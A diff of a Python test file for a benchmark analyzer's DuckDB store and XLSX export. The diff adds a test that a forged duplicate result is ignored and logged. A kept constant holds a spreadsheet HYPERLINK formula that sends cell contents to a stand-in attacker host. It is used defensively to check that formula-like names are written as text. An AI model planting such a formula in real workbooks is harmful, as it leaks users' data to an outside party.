@@ -5,6 +5,7 @@ events in a real DuckDB file and asks the real analyzer app (TestClient) for the
 from __future__ import annotations
 
 import io
+import logging
 from datetime import UTC, datetime, timedelta
 
 import openpyxl
@@ -20,10 +21,14 @@ FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
 
 def result_events(campaign: str, host: list[float], pod: list[float], *, node: str = "node-1",
                   tool_version: str = "1.0.20", run_prefix: str | None = None) -> list[events.Envelope]:
+    """Results as a store may hold them: names on the bus are checked since Dec 3 (events.NodeName), but a
+    store written before holds what it got, and its reports and exports must not break on it, so the runs
+    are built unchecked (model_construct)."""
     out: list[events.Envelope] = []
     for i, (env, value) in enumerate([("host", v) for v in host] + [("kubernetes", v) for v in pod]):
-        run = events.RunSpec(run_id=f"{run_prefix or campaign}-{i}", campaign=campaign, node=node, env=env,
-                             test="sysbench-cpu", params={"threads": 1})
+        run = events.RunSpec.model_construct(run_id=f"{run_prefix or campaign}-{i}", campaign=campaign, node=node,
+                                             env=env, test="sysbench-cpu", params={"threads": 1}, cluster="local",
+                                             attempt=1, timeout_s=600, sequence=0)
         start = T0 + timedelta(minutes=2 * i)
         res = events.Result(run=run, tool="sysbench", tool_version=tool_version, parser_version="1",
                             metrics=[events.Metric(name="events_per_second", value=value, unit="events/s",
@@ -43,9 +48,9 @@ def store(tmp_path):
 def test_workbook_writes_formula_like_strings_as_text(store):
     host = [1000.0 + i for i in range(6)]
     batch = result_events("evil", host, [v * 0.97 for v in host], node=FORMULA, tool_version="=1+1")
-    batch.append(events.host_facts(events.HostFacts(cluster="local", node=FORMULA, kernel="=2+2", os="Debian",
-                                                    cpu_model="=3+3", hw_threads=4, arch="x86_64",
-                                                    tool_versions={"sysbench": "1.0.20"}), "test"))
+    batch.append(events.host_facts(events.HostFacts.model_construct(  # unchecked, as in result_events
+        cluster="local", node=FORMULA, kernel="=2+2", os="Debian", cpu_model="=3+3", hw_threads=4, arch="x86_64",
+        tool_versions={"sysbench": "1.0.20"}), "test"))
     store.write_batch(batch)
     resp = TestClient(create_app(store)).get("/api/campaigns/evil/export.xlsx")
     assert resp.status_code == 200
@@ -108,3 +113,19 @@ def test_control_characters_in_names_do_not_break_the_workbooks(store):
         assert not any("\x00" in t or "\x1f" in t for t in texts)
     wb = openpyxl.load_workbook(io.BytesIO(client.get("/api/campaigns/nul/export.xlsx").content))
     assert "node node\ufffd-1" in wb.sheetnames
+
+
+def test_a_second_result_for_a_stored_run_is_ignored_and_said(store, caplog):
+    """An audit sent three results for one run id (100, then 999, then another env and node): the first is
+    kept, as a redelivery must find it; the others were dropped without a word."""
+    first, = result_events("dup", [100.0], [])
+    other = first.model_copy(update={"id": "forged-1", "data": first.data.model_copy(update={
+        "metrics": [events.Metric(name="events_per_second", value=999.0, unit="events/s", higher_is_better=True)]})})
+    store.write_batch([first])
+    with caplog.at_level(logging.WARNING, logger="podtax.analyzer.store"):
+        store.write_batch([first])  # a redelivery: nothing to say
+        assert not caplog.records
+        assert store.write_batch([other]) == set()
+    assert "result forged-1 ignored: run dup-0 already has result" in caplog.text
+    value = store.cursor().execute("SELECT value FROM metrics WHERE run_id = 'dup-0'").fetchone()
+    assert value == (100.0,)
